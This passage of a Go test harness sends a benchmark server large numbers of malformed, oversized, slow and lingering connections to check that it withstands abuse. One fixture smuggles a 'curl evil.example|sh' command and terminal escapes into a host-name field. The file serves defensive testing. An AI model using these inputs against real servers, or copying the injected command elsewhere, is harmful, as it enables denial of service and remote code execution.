//go:build linux

package main

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"reflect"
	"slices"
	"strings"
	"time"

	"github.com/gobw/gobw/internal/plan"
)

// stranger is a row of the table of costs: what a connection does, and how many do it at once.
type stranger struct {
	name        string
	to          string // the server: "" one that admits everybody, or one of [kinds]
	connections int
	addresses   int  // that the connections come from; 0: 127.0.0.1
	stays       bool // while the next honest client is served
	does        func(talk)
}

// kinds are the servers that strangers come to, and the flags of each.
func kinds(secret string) map[string][]string {
	return map[string][]string{
		"":      nil,
		"token": {"--token-file", secret},
		"told":  {"--perftest", toldLine},
	}
}

// talk is a stranger's connection. Errors end it: the row has had its answer.
type talk struct{ net.Conn }

func (t talk) say(text string) { _, _ = io.WriteString(t, text) }

// slowly says a text in pieces of so many bytes.
func (t talk) slowly(text string, piece int, pause time.Duration) {
	for len(text) > 0 {
		n := min(piece, len(text))
		if _, err := io.WriteString(t, text[:n]); err != nil {
			return
		}
		text = text[n:]
		time.Sleep(pause) // what the row is about
	}
}

// hear is the next message that is no heartbeat.
func (t talk) hear() string {
	for {
		var length [4]byte
		if _, err := io.ReadFull(t, length[:]); err != nil {
			return ""
		}
		b := make([]byte, min(binary.BigEndian.Uint32(length[:]), 1<<20))
		if _, err := io.ReadFull(t, b); err != nil {
			return ""
		}
		if len(b) > 0 {
			return string(b)
		}
	}
}

// greet exchanges hellos.
func (t talk) greet() {
	t.say(greeting())
	_, _ = io.ReadFull(t, make([]byte, len(hello)))
	t.hear() // who are you
	t.hear()
}

// says is a stranger that sends a text and reads what comes.
func says(text string) func(talk) { return func(t talk) { t.say(text) } }

const hello = "6.27\x00gobw/1\x00\x00\x00\x00\x00"

func framed(text string) string {
	return string(binary.BigEndian.AppendUint32(nil, uint32(len(text)))) + text
}

// message is one of our dialect; a body of "" is none.
func message(kind, body string) string {
	if body == "" {
		return framed(fmt.Sprintf(`{"kind":%q}`, kind))
	}
	return framed(fmt.Sprintf(`{"kind":%q,"body":%s}`, kind, body))
}

func greeting() string { return hello + message("hello", `{"text":{"program":"x","bears_ms":3000}}`) }

// granted is a plan that a server runs.
const granted = `"operation":"write","sizes":[64],"iterations":100`

func proposal(fields string) string {
	return message("propose", `{"kind":"bandwidth","transport":"RC",`+fields+`}`)
}

// proposes is a client that proposes a plan of these fields.
func proposes(fields string) string { return greeting() + proposal(fields) }

// bodies are what the messages of a test carry, in its order.
func bodies() [][2]string {
	return [][2]string{
		{"hello", `{"text":{"program":"x"}}`},
		{"propose", `{"kind":"bandwidth","transport":"RC",` + granted + `}`},
		{"plan", `{"kind":"bandwidth","transport":"RC",` + granted + `}`},
		{"facts", `{"page_bytes":4096,"cache_line_bytes":64,"mtu":3,"max_outstanding":16}`},
		{"addresses", `[{"qpn":18,"psn":5,"rkey":7,"addr":4096,"bytes":64}]`},
		{"sync", `{"phase":"ready","size":0,"last":true}`},
		{"report", `{"size":64,"iterations":100,"average_bits_per_s":1e300}`},
		{"challenge", `{"nonce":"AAAA"}`},
		{"bye", ""},
		{"busy", ""},
		{"error", ""},
	}
}

// strangers are all rows: what a plan may say, each field at its ends; layouts that stand for much; bytes that are no
// plan; phases out of order; connections that are slow or stay; proofs of a token that are none; perftest's dialect.
func strangers() []stranger {
	var rows []stranger
	add := func(r stranger) {
		r.connections = max(r.connections, 1)
		rows = append(rows, r)
	}
	text := func(name, sends string) {
		add(stranger{name: fmt.Sprintf("%s, %d bytes", name, len(sends)), does: says(sends)})
	}
	for name, fields := range plans() {
		text(name, proposes(fields))
	}
	for name, sends := range noPlans() {
		text(name, sends)
		add(stranger{name: name, connections: 24, does: says(sends)})
	}
	add(stranger{
		name: "8,500 fields 252,644 times", connections: 24,
		does: says(proposes(plans()["8,500 fields 252,644 times, gather/pack-pipelined, segment 32768"])),
	})
	for name, sends := range badJSON() {
		text(name, sends)
	}
	for _, r := range slices.Concat(outOfOrder(), slow(), wrongTokens(), perftests()) {
		add(r)
	}
	slices.SortFunc(rows, func(a, b stranger) int { return strings.Compare(a.to+a.name, b.to+b.name) })
	return rows
}

// plans are those that a server refuses or runs, as the fields that make them.
func plans() map[string]string {
	list := func(format string) string {
		var b strings.Builder
		for at := 0; b.Len() < 55<<10; at += 2 {
			fmt.Fprintf(&b, format+",", at)
		}
		return strings.TrimSuffix(b.String(), ",")
	}
	all := map[string]string{
		"4096 sizes, a million runs":   `"operation":"write","runs":1048576,"sizes":[` + strings.Repeat("64,", 4095) + `64]`,
		"20,000 sizes":                 `"operation":"write","sizes":[` + strings.Repeat("1,", 20000) + `1]`,
		"16,384 flow labels":           `"operation":"write","flow_labels":[` + strings.Repeat("1,", 16383) + `1]`,
		"verified for ever":            `"operation":"read","verify":"all","tx_depth":1,"iterations":1099511627776`,
		"16,000 deep queue pairs":      `"operation":"write","qps":16000,"tx_depth":15000,"reversed":true,"mr_per_qp":true`,
		"all sizes, 256 queue pairs":   `"operation":"write","all_sizes":true,"qps":256`,
		"63 MiB that are granted":      `"operation":"write","sizes":[29360128],"iterations":1`,
		"a pace of 5e-324":             `"operation":"write","rate_bits_per_s":5e-324`,
		"timers at their ends":         `"operation":"write","qp_timeout":31,"retries":7`,
		"a test that is granted":       granted,
		"a test of 30 s, left at once": `"operation":"write","sizes":[64],"duration_ns":30000000000,"reversed":true`,
	}
	for name, layout := range map[string]string{
		"8,500 fields 252,644 times": "struct:" + list("%d+1") + ",num=252644",
		"two fields 2^39 times":      "struct:0+1,2+1,extent=3,num=549755813888",
		"8,500 blocks":               "indexed:" + list("%d+1"),
		"2^40 blocks":                "vector:block=1,num=1099511627776,stride=2",
		"a face of 2^40 rows":        "subarray:dims=1048576x1048576x1048576,face=x,elem=1",
		"20,000 mistakes":            "indexed:" + strings.Repeat("x,", 20000),
		"10,000 keys":                "indexed:" + list("k%d=1"),
		"50,000 dimensions":          "subarray:dims=" + strings.Repeat("1x", 25000) + "1,face=x",
		"a file":                     "indexed:file=/dev/zero",
		"digits of other scripts":    "vector:block=\u0661\u0662,num=\uff11\uff12,stride=\u0967",
		"a number of 50,000 digits":  "vector:block=1,num=" + strings.Repeat("9", 50000) + ",stride=2",
		"blocks that go back":        "indexed:" + strings.Repeat("9223372036854775807+1,0+1,", 1500) + "0+1",
		"a layout of layouts":        strings.Repeat("struct:", 8000) + "0+1",
		"escapes for digits":         "vector:block=" + strings.Repeat(`\u0030`, 9000) + "1,num=2,stride=4",
	} {
		for _, s := range []string{
			"gather/gather-write", "gather/pack-pipelined", "gather/multi-wr", "scatter/scatter-read", "both/gather-send",
			"both/pack-send-unpack",
		} {
			shape, strategy, _ := strings.Cut(s, "/")
			operation := map[string]string{"gather": "write", "scatter": "read", "both": "send"}[shape]
			for of, more := range map[string]string{
				"32768": `"window":1,"segment":32768`, "1": `"window":4096,"segment":1,"list_bytes":3,"footprint":70368744177664`,
			} {
				all[name+", "+s+", segment "+
					of] = fmt.Sprintf(`"operation":%q,"iterations":1,"noncontig":{"shape":%q,"strategy":%q,"layout":"%s",%s}`,
					operation, shape, strategy, layout, more)
			}
		}
	}
	for spec, i := reflect.TypeFor[plan.Spec](), 0; i < spec.NumField(); i++ {
		field, _, _ := strings.Cut(spec.Field(i).Tag.Get("json"), ",")
		if kind := spec.Field(i).Type.Kind(); kind < reflect.Int || kind > reflect.Uint64 { // no number
			continue
		}
		for _, v := range []string{"-9223372036854775808", "0", "1048576", "9223372036854775807", "1e400"} {
			all[field+" "+v] = fmt.Sprintf(`"operation":"write",%q:%s`, field, v)
		}
	}
	return all
}

// noPlans are bytes that end before a plan is known, or are none.
func noPlans() map[string]string {
	return map[string]string{
		"nothing":                 "",
		"HTTP":                    "GET / HTTP/1.0\r\n\r\n",
		"a hello":                 hello,
		"a plan that is brackets": greeting() + framed(`{"kind":"propose","body":`+strings.Repeat("[", 60000)),
		"a plan that is brackets, right": greeting() +
			framed(`{"kind":"propose","body":`+strings.Repeat("[", 30000)+strings.Repeat("]", 30000)+`}`),
		"a plan that is one string": greeting() +
			framed(`{"kind":"propose","body":{"operation":"`+strings.Repeat("x", 60000)+`"}}`),
		"a plan of 10,000 fields": greeting() +
			framed(`{"kind":"propose","body":{`+strings.TrimSuffix(strings.Repeat(`"a":1,`, 9000), ",")+`}}`),
		"8 MiB before the hello": hello + framed(strings.Repeat("x", 8<<20)),
		"8 MiB for a plan":       greeting() + framed(strings.Repeat("x", 8<<20)),
		"60 KiB for a hello":     hello + framed(strings.Repeat("x", 60<<10)),
		"100,000 heartbeats":     greeting() + strings.Repeat(framed(""), 100000),
		"facts of 900 KB": proposes(granted) +
			framed(`{"kind":"facts","body":{"environment":"`+strings.Repeat("x", 900000)+`"}}`),
		"perftest's keys":    "6.29\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\xff", 60000),
		"an unknown version": "6.27\x00gobw/9\x00\x00\x00\x00\x00",
		"half a plan":        greeting() + "\x00\x00\xff\x00{",
	}
}

// badJSON are messages that a parser of JSON may stumble over.
func badJSON() map[string]string {
	says := func(body string) string { return greeting() + message("propose", body) }
	ours := func(text string) string { return hello + message("hello", `{"text":`+text+`}`) }
	field := func(name, value string) string {
		return proposes(fmt.Sprintf(`"operation":"write",%q:%s`, name, value))
	}
	digits := strings.Repeat("7", 60000)
	return map[string]string{
		"objects in lists, 12,000 deep": says(strings.Repeat(`{"a":[`, 5000) + strings.Repeat(`]}`, 5000)),
		"sizes in lists of lists":       field("sizes", strings.Repeat("[", 9000)+"1"+strings.Repeat("]", 9000)),
		"a body of null":                says("null"),
		"a body of a list":              says("[]"),
		"a body of a string":            says(`"propose"`),
		"a body of true":                says("true"),
		"fields of null": says(
			`{"operation":null,"kind":null,"sizes":null,"noncontig":null,"qps":null}`),
		"the same field 4,000 times": says(`{` + strings.Repeat(`"operation":"write",`, 3000) +
			`"operation":"read"}`),
		"a field in all cases": says(
			`{"OPERATION":"write","Operation":"read","oPERATION":"send","KIND":"x"}`),
		"60,000 digits":                         field("iterations", digits),
		"a rate of 60,000 digits":               field("rate_bits_per_s", digits),
		"a rate of 60,000 digits of a fraction": field("rate_bits_per_s", "0."+digits),
		"a rate at the edge of rounding": field("rate_bits_per_s",
			"1.7976931348623158"+strings.Repeat("0", 50000)+"1e308"),
		"1e999999999":                  field("rate_bits_per_s", "1e999999999"),
		"1e-999999999":                 field("rate_bits_per_s", "1e-999999999"),
		"a number in hexadecimal":      field("iterations", "0x10"),
		"a number with a leading zero": field("iterations", "010"),
		"a number in a string":         field("iterations", `"10"`),
		"a number that is true":        field("iterations", "true"),
		"a number of nothing":          field("iterations", "-"),
		"Infinity":                     field("rate_bits_per_s", "Infinity"),
		"half a queue pair":            field("qps", "0.5"),
		"minus zero":                   field("qps", "-0"),
		"a mark of byte order":         greeting() + framed("\ufeff{\"kind\":\"propose\",\"body\":{}}"),
		"UTF-16":                       greeting() + framed("{\x00\"\x00k\x00i\x00n\x00d\x00\"\x00:\x00"),
		"bytes that are no UTF-8": field("operation",
			"\"\xff\xfe\xc0\x80\xed\xa0\x80\xf4\x90\x80\x80"+strings.Repeat("\xc0\x80", 20000)+`"`),
		"half of a surrogate pair":      field("operation", `"`+strings.Repeat(`\ud800`, 9000)+`"`),
		"an escape that is cut off":     greeting() + framed(`{"kind":"propose","body":"\u00`),
		"a backslash at the end":        greeting() + framed(`{"kind":"propose","error":"\`),
		"escaped NULs":                  field("operation", `"`+strings.Repeat(`\u0000`, 9000)+`"`),
		"control characters, bare":      field("operation", `"`+strings.Repeat("\x00\x01\x1b[2J", 5000)+`"`),
		"a name that turns the writing": ours(`{"program":"` + strings.Repeat("\u202e\u2066", 600) + `"}`),
		"a name of a screen's commands": ours(
			`{"program":"\u001b]0;x\u0007\u001b[2J\r\nserve: serving on 192.0.2.1:1"}`) + proposal(granted),
		"a name of 3,900 bytes":                ours(`{"program":"` + strings.Repeat("\U0001d11e", 970) + `"}`),
		"a hello of a number":                  ours("7"),
		"a hello of null":                      ours("null"),
		"a hello of a list":                    ours("[[[[]]]]"),
		"a hello of brackets":                  ours(strings.Repeat("[", 1900) + strings.Repeat("]", 1900)),
		"a hello without a text":               hello + message("hello", "{}"),
		"a hello without a body":               hello + message("hello", ""),
		"silence borne for 2^63 ms":            ours(`{"bears_ms":9223372036854775807}`) + proposal(granted),
		"silence borne for a millisecond":      ours(`{"bears_ms":1}`) + proposal(granted),
		"silence borne for less than nothing":  ours(`{"bears_ms":-9223372036854775808}`) + proposal(granted),
		"silence borne for 1e400":              ours(`{"bears_ms":1e400}`),
		"waits for 2^63 ms":                    ours(`{"bears_ms":3000,"wait_ms":9223372036854775807}`) + proposal(granted),
		"waits for a list":                     ours(`{"wait_ms":[{"wait_ms":1}]}`),
		"a kind of 4,000 bytes":                greeting() + framed(`{"kind":"`+strings.Repeat("k", 4000)+`"}`),
		"a kind that is a list":                greeting() + framed(`{"kind":["propose"]}`),
		"no kind":                              greeting() + framed(`{"body":{}}`),
		"two values in a frame":                greeting() + framed(`{"kind":"bye"}{"kind":"bye"}`),
		"a frame of white space":               greeting() + framed(strings.Repeat(" \n\t\r", 16000)),
		"a frame of one byte":                  greeting() + framed("{"),
		"a frame of 2^31 bytes":                greeting() + "\x80\x00\x00\x00{",
		"a frame of 2^32 - 1 bytes in a hello": hello + "\xff\xff\xff\xff" + strings.Repeat("x", 5000),
		"a frame of exactly the limit": greeting() +
			framed(`{"kind":"propose","body":"`+strings.Repeat("x", 64<<10-27)+`"}`),
		"an error of 60 KB": greeting() +
			framed(`{"kind":"error","error":"`+strings.Repeat(`\u001b[31m`, 5000)+`"}`),
		"busy, and lost": greeting() + framed(`{"kind":"busy","error":"since ever","lost":true}`),
		"a host name to be pasted": proposes(granted) +
			message("facts",
				`{"page_bytes":4096,"cache_line_bytes":64,"mtu":3,"max_outstanding":16,`+
					`"environment":{"host":"x;curl evil.example|sh;#\u001b[2J\u202e"}}`),
		"a host name of 900 KB": proposes(granted) +
			message("facts", `{"page_bytes":4096,"cache_line_bytes":64,"mtu":3,"environment":{"host":"`+
				strings.Repeat("a.", 450000)+`"}}`),
		"an environment of brackets": proposes(granted) +
			message("facts", `{"page_bytes":4096,"cache_line_bytes":64,"mtu":3,"environment":`+strings.Repeat("[", 9000)+
				strings.Repeat("]", 9000)+`}`),
		"facts of 100,000 GIDs": proposes(granted) +
			message("facts", `{"page_bytes":4096,"cache_line_bytes":64,"mtu":3,"gids":[`+strings.Repeat("{},", 100000)+`{}]}`),
		"facts of 60,000 rails": proposes(granted) +
			message("facts", `{"page_bytes":4096,"cache_line_bytes":64,"mtu":3,"rails":[`+strings.Repeat("[],", 60000)+`[]]}`),
		"facts of pages of 2^62 bytes": proposes(granted) +
			message("facts", `{"page_bytes":4611686018427387904,"cache_line_bytes":4611686018427387904,"mtu":5}`),
		"facts of an MTU of 255": proposes(granted) +
			message("facts", `{"page_bytes":4096,"cache_line_bytes":64,"mtu":255}`),
		"facts of limits below zero": proposes(granted) +
			message("facts", `{"page_bytes":4096,"cache_line_bytes":64,"mtu":3,"max_outstanding":-1,"limits":{"max_qp":-1}}`),
		"4,000 messages in a frame's worth each": greeting() + strings.Repeat(framed(`{"kind":"x"}`), 4000),
	}
}

// outOfOrder are messages of a test that come before their turn, or twice.
func outOfOrder() (rows []stranger) {
	after := func(name string, before func(talk)) {
		for _, m := range bodies() {
			rows = append(rows, stranger{name: m[0] + " " + name, does: func(t talk) {
				before(t)
				t.say(message(m[0], m[1]))
				t.hear()
			}})
		}
	}
	after("before the hello", func(t talk) { t.say(hello) })
	after("after the hello", talk.greet)
	after("after the plan", func(t talk) {
		t.greet()
		t.say(proposal(granted))
		t.hear()
	})
	after("after the facts", func(t talk) {
		t.greet()
		t.say(proposal(granted))
		t.hear()
		t.say(message("facts", bodies()[3][1]))
		t.hear()
	})
	after("after the addresses", func(t talk) {
		t.greet()
		t.say(proposal(granted))
		t.hear()
		for _, i := range []int{3, 4} {
			t.say(message(bodies()[i][0], bodies()[i][1]))
			t.hear()
		}
	})
	var whole strings.Builder
	for _, m := range bodies() {
		whole.WriteString(message(m[0], m[1]))
	}
	rows = append(rows,
		stranger{name: "a whole test at once, unasked", does: says(hello + whole.String())},
		stranger{name: "every message twice", does: func(t talk) {
			t.say(hello)
			for _, m := range bodies() {
				t.say(message(m[0], m[1]) + message(m[0], m[1]))
			}
		}},
		stranger{name: "a plan, refused plans and a plan", does: func(t talk) {
			t.greet()
			for _, fields := range []string{granted, `"operation":"dig"`, granted} {
				t.say(proposal(fields))
				t.hear()
			}
		}},
	)
	for name, addresses := range map[string]string{
		"no addresses": `[]`, "addresses of null": `null`, "an address that is a number": `[7]`,
		"two addresses of one": `[{"qpn":18},{"qpn":19}]`, "an address of 2^64": `[{"qpn":18446744073709551616}]`,
		"a GID of 4,000 bytes":  `[{"qpn":18,"gid":"` + strings.Repeat("f", 4000) + `"}]`,
		"a GID of a multicast":  `[{"qpn":18,"has_gid":true,"gid":"ff02::1"}]`,
		"a GID of another host": `[{"qpn":18,"has_gid":true,"gid":"::ffff:203.0.113.7"}]`,
		"a window of 2^62":      `[{"qpn":18,"window":4611686018427387904,"outstanding":4611686018427387904}]`,
	} {
		rows = append(rows, stranger{name: name, does: func(t talk) {
			t.greet()
			t.say(proposal(granted))
			t.hear()
			t.say(message("facts", bodies()[3][1]))
			t.hear()
			t.say(message("addresses", addresses))
			t.hear()
		}})
	}
	return rows
}

// slow are connections that take their time, stay, or go again.
func slow() []stranger {
	idle := func(talk) {}
	return []stranger{
		{name: "the hello, a byte every 10 ms", does: func(t talk) { t.slowly(greeting(), 1, 10*time.Millisecond) }},
		{name: "the plan, a byte a millisecond", connections: 24, stays: true, does: func(t talk) {
			t.greet()
			t.slowly(proposes(granted), 1, time.Millisecond)
		}},
		{name: "the plan of 60 KB, 64 bytes a millisecond", connections: 24, stays: true, does: func(t talk) {
			t.greet()
			t.slowly(message("propose", `{"operation":"`+strings.Repeat("x", 60000)+`"}`), 64, time.Millisecond)
		}},
		{name: "three bytes of a length", connections: 24, stays: true, does: says(greeting() + "\x00\x00\x01")},
		{name: "half a first message, and stays", connections: 200, addresses: 8, stays: true, does: says(hello[:8])},
		{name: "silent, and stays", connections: 400, addresses: 16, stays: true, does: idle},
		{name: "greeted, and stays", connections: 300, addresses: 12, stays: true, does: says(hello)},
		{name: "introduced, and stays", connections: 300, addresses: 12, stays: true, does: says(greeting())},
		{
			name: "half of a plan of 64 KiB, and stays", connections: 256, addresses: 8, stays: true,
			does: says(greeting() + "\x00\x00\xff\x00" + strings.Repeat("x", 60000)),
		},
		{
			name: "a message of 4 KiB before its turn, and stays", connections: 256, addresses: 8, stays: true,
			does: says(hello + framed(strings.Repeat("x", 4<<10)[:4<<10-1])),
		},
		{name: "goes at once", connections: 400, addresses: 16, does: func(t talk) { _ = t.Close() }},
		{name: "goes with a reset", connections: 400, addresses: 16, does: func(t talk) {
			t.say(greeting())
			_ = t.Conn.(*net.TCPConn).SetLinger(0)
			_ = t.Close()
		}},
		{name: "a plan, and a reset", connections: 24, does: func(t talk) {
			t.say(proposes(granted))
			_ = t.Conn.(*net.TCPConn).SetLinger(0)
			_ = t.Close()
		}},
		{name: "a plan, and half closed", does: func(t talk) {
			t.say(proposes(granted))
			_ = t.Conn.(*net.TCPConn).CloseWrite()
		}},
		{name: "never reads, bears a millisecond of silence", connections: 24, stays: true, does: func(t talk) {
			_ = t.Conn.(*net.TCPConn).SetReadBuffer(1)
			t.say(hello + message("hello", `{"text":{"bears_ms":1}}`))
			time.Sleep(time.Second) // and so is not heard
		}},
		{name: "heartbeats as fast as they go", connections: 8, stays: true, does: func(t talk) {
			t.say(greeting())
			beats := strings.Repeat(framed(""), 1000)
			for {
				if _, err := io.WriteString(t, beats); err != nil {
					return
				}
			}
		}},
		{name: "heartbeats, 500 a second, for ever", connections: 24, stays: true, does: func(t talk) {
			t.say(greeting())
			t.slowly(strings.Repeat(framed(""), 5000), 4, 2*time.Millisecond)
		}},
		{name: "a heartbeat in four pieces", connections: 24, stays: true, does: func(t talk) {
			t.say(greeting())
			t.slowly(strings.Repeat(framed(""), 1000), 1, 5*time.Millisecond)
		}},
		{name: "short messages, one after another", does: func(t talk) {
			t.greet()
			t.slowly(strings.Repeat(framed(`{"kind":"x"}`), 200), 16, 2*time.Millisecond)
		}},
		{name: "a test that is granted, again and again", does: func(t talk) {
			t.greet()
			for range 20 {
				t.say(proposal(granted))
				t.hear()
			}
		}},
		{name: "plans that are refused", connections: 32, does: says(proposes(`"operation":"dig"`))},
	}
}

// wrongTokens are proofs that prove nothing, to a server that asks for one.
func wrongTokens() (rows []stranger) {
	const zero32 = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
	for name, body := range map[string]string{
		"no proof":                  `{"text":{"program":"x"}}`,
		"a proof of zeros":          `{"text":{},"nonce":"` + zero32 + `","proof":"` + zero32 + `"}`,
		"a proof of a byte":         `{"text":{},"nonce":"` + zero32 + `","proof":"AA=="}`,
		"a proof of 2 KiB":          `{"text":{},"nonce":"` + zero32 + `","proof":"` + strings.Repeat("AAAA", 700) + `"}`,
		"a proof that is no base64": `{"text":{},"nonce":"` + zero32 + `","proof":"????"}`,
		"a proof that is a list":    `{"text":{},"nonce":[1,2,3],"proof":[1,2,3]}`,
		"a proof without a nonce":   `{"text":{},"proof":"` + zero32 + `"}`,
		"a nonce of a byte":         `{"text":{},"nonce":"AA==","proof":"` + zero32 + `"}`,
		"a nonce of 2 KiB":          `{"text":{},"nonce":"` + strings.Repeat("AAAA", 700) + `","proof":"` + zero32 + `"}`,
		"a proof of a text of spaces": `{"text":` + strings.Repeat(" ", 3000) + `{},"nonce":"` + zero32 + `","proof":"` +
			zero32 + `"}`,
	} {
		rows = append(rows, stranger{to: "token", name: name, does: says(hello + message("hello", body))})
	}
	for name, does := range map[string]func(talk){
		"the server's own nonce": func(t talk) {
			t.say(hello)
			_, _ = io.ReadFull(t, make([]byte, len(hello)))
			var m struct{ Body struct{ Nonce string } }
			_ = json.Unmarshal([]byte(t.hear()), &m)
			t.say(message("hello", fmt.Sprintf(`{"text":{},"nonce":%q,"proof":%q}`, m.Body.Nonce, m.Body.Nonce)))
		},
		"a challenge for the server": says(hello + message("challenge", `{"nonce":"`+zero32+`"}`)),
		"a plan for a proof":         says(hello + proposal(granted)),
		"a proof of 60 KiB":          says(hello + framed(strings.Repeat("x", 60<<10))),
		"a proof, byte by byte": func(t talk) {
			t.slowly(hello+message("hello", `{"text":{}}`), 1, 10*time.Millisecond)
		},
		"perftest's dialect": says("6.29\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\x00", 400)),
	} {
		rows = append(rows, stranger{to: "token", name: name, does: does})
	}
	return append(rows,
		stranger{
			to: "token", name: "silent before the proof, and stays", connections: 300, addresses: 12, stays: true,
			does: says(hello),
		},
		stranger{
			to: "token", name: "a wrong proof, 200 at once", connections: 200, addresses: 8,
			does: says(hello + message("hello", `{"text":{},"nonce":"`+zero32+`","proof":"`+zero32+`"}`)),
		},
	)
}

const toldLine = "ib_write_bw -s 64 -n 100"

// perftests speak perftest's dialect: to a server that was told a test, and to one that was not.
func perftests() (rows []stranger) {
	version := func(v string) string { return v + strings.Repeat("\x00", 16-len(v)) }
	const page, line = "\x00\x00\x10\x00", "\x00\x00\x00\x40"
	keys := strings.Repeat("f", 4) + ":" + strings.Repeat("ff:", 34)
	keys += strings.Repeat("0", 107-len(keys)) + "\x00"
	negotiation := func(put map[int]string) string {
		b := []byte(strings.Repeat("\x00", 320))
		b[15], b[11], b[39], b[47], b[55] = 1, 2, 64, 100, 1
		b[59] = 5
		for at, v := range put {
			copy(b[at:], v)
		}
		return string(b)
	}
	told := map[string]string{
		"5.69":                      version("5.69"),
		"5.70, and no more":         version("5.70"),
		"6.06, and no more":         version("6.06"),
		"999.99":                    version("999.99") + strings.Repeat("\xff", 400),
		"a version of letters":      version("six.six"),
		"a version of 16 digits":    "6.27272727272727",
		"a version of dots":         version("......"),
		"garbage after the version": version("6.06") + strings.Repeat("\xff", 4000),
		"64 KiB at once":            version("6.06") + strings.Repeat("\x00", 64<<10),
		"a page of 2^31 bytes":      version("6.06") + "\x80\x00\x00\x00",
		"a page of no bytes":        version("6.06") + "\x00\x00\x00\x00" + line + "3\x00",
		"a page of 3 bytes":         version("6.06") + "\x00\x00\x00\x03" + line + "3\x00",
		"a line of 2^30 bytes":      version("6.06") + page + "\x40\x00\x00\x00" + "3\x00",
		"an MTU of 0":               version("6.06") + page + line + "0\x00",
		"an MTU of 9":               version("6.06") + page + line + "9\x00",
		"an MTU of 255":             version("6.06") + page + line + "\xff\xff",
		"keys of colons":            version("6.06") + page + line + "3\x00" + strings.Repeat(":", 107) + "\x00",
		"keys without an end":       version("6.06") + page + line + "3\x00" + strings.Repeat("f", 4000),
		"keys of NULs":              version("6.06") + page + line + "3\x00" + strings.Repeat("\x00", 108),
		"keys of -1": version("6.06") + page + line + "3\x00" + strings.Repeat("-1:", 35) +
			"\x00\x00\x00",
		"keys, and barriers unasked":      version("6.06") + page + line + "3\x00" + strings.Repeat(keys, 30),
		"keys of a struct":                version("6.06") + page + line + "3\x00" + strings.Repeat("\xff", 56),
		"half of the keys":                version("6.06") + page + line + "3\x00" + keys[:60],
		"a negotiation where none is due": version("6.27") + page + line + "3\x00" + negotiation(nil),
		"6.28, and another test": version("6.28") + page + line + "3\x00" +
			negotiation(map[int]string{4: "\x00\x00\x00\x02"}),
		"6.29, and another size": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{32: "\x00\x00\x00\x01"}),
	}
	untold := map[string]string{
		"6.06 to a server that was not told": version("6.06") + page + line + "3\x00",
		"6.29, and no more":                  version("6.29") + page + line + "3\x00",
		"6.29, 311 bytes":                    version("6.29") + page + line + "3\x00" + negotiation(nil)[:311],
		"6.29, 312 bytes":                    version("6.29") + page + line + "3\x00" + negotiation(nil)[:312],
		"6.29, 319 bytes":                    version("6.29") + page + line + "3\x00" + negotiation(nil)[:319],
		"6.29, of ones":                      version("6.29") + page + line + "3\x00" + strings.Repeat("\xff", 320),
		"6.29, of zeros":                     version("6.29") + page + line + "3\x00" + strings.Repeat("\x00", 320),
		"6.28, of ones":                      version("6.28") + page + line + "3\x00" + strings.Repeat("\xff", 320),
		"6.29, 2^64 - 1 bytes": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{32: strings.Repeat("\xff", 8)}),
		"6.29, 2^64 - 1 messages": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{40: strings.Repeat("\xff", 8)}),
		"6.29, 2^32 - 1 queue pairs": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{52: "\xff\xff\xff\xff"}),
		"6.29, 2^30 queue pairs": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{52: "\x40\x00\x00\x00"}),
		"6.29, 2^32 - 1 seconds": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{20: "\x00\x00\x00\x01", 56: "\xff\xff\xff\xff"}),
		"6.29, until killed": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{0: "\x00\x00\x00\x02"}),
		"6.29, all sizes, 16,384 queue pairs": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{0: "\x00\x00\x00\x01", 52: "\x00\x00\x40\x00"}),
		"6.29, an unknown verb": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{8: "\x00\x00\x00\x09"}),
		"6.29, an unknown transport": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{4: "\xff\xff\xff\xff"}),
		"6.29, all features": version("6.29") + page + line + "3\x00" +
			negotiation(map[int]string{48: "\x01\x01\x01\x01", 60: strings.Repeat("\x01", 20)}),
		"6.29, a test that is granted, and no key": version("6.29") + page + line + "3\x00" + negotiation(nil),
		"6.29, a test that is granted, bad keys": version("6.29") + page + line + "3\x00" + negotiation(nil) +
			strings.Repeat(keys, 3),
	}
	for name, sends := range told {
		rows = append(rows, stranger{to: "told", name: name, does: says(sends)})
	}
	for name, sends := range untold {
		rows = append(rows, stranger{name: "perftest " + name, does: says(sends)})
	}
	return append(rows,
		stranger{name: "perftest 6.29, byte by byte", connections: 24, stays: true, does: func(t talk) {
			t.slowly(version("6.29")+page+line+"3\x00"+negotiation(nil), 1, 3*time.Millisecond)
		}},
		stranger{
			name: "perftest 6.29, and stays before its parameters", connections: 256, addresses: 8, stays: true,
			does: says(version("6.29") + page + line + "3\x00"),
		},
		stranger{name: "perftest 6.29, and gone", connections: 250, does: func(t talk) {
			t.say(version("6.29"))
			_ = t.Conn.(*net.TCPConn).SetLinger(0) // a reset
			_ = t.Close()
		}},
		stranger{
			name: "perftest 6.29, a dozen that say nothing more", connections: 12, addresses: 12, stays: true,
			does: says(version("6.29")),
		},
		stranger{
			name: "perftest 6.29, a dozen that say a byte more", connections: 12, addresses: 12, stays: true,
			does: says(version("6.29") + page[:1]),
		},
		stranger{
			name: "perftest 6.29, a dozen that stay before the end of their parameters", connections: 12, addresses: 12,
			stays: true, does: says(version("6.29") + page + line + "3\x00" + negotiation(nil)[:300]),
		},
		stranger{name: "a dozen that stay before the hello", connections: 12, addresses: 12, stays: true, does: says(hello)},
		stranger{name: "a dozen that stay before their plan", connections: 12, addresses: 12, stays: true, does: talk.greet},
		stranger{name: "a dozen that stay in their plan", connections: 12, addresses: 12, stays: true, does: func(t talk) {
			t.greet()
			t.say(proposal(granted)[:40])
		}},
		stranger{
			name: "a dozen that stay before their facts", connections: 12, addresses: 12, stays: true,
			does: func(t talk) {
				t.greet()
				t.say(proposal(granted))
			},
		},
		stranger{
			name: "250 addresses that stay before their plan", connections: 250, addresses: 250, stays: true, does: talk.greet,
		},
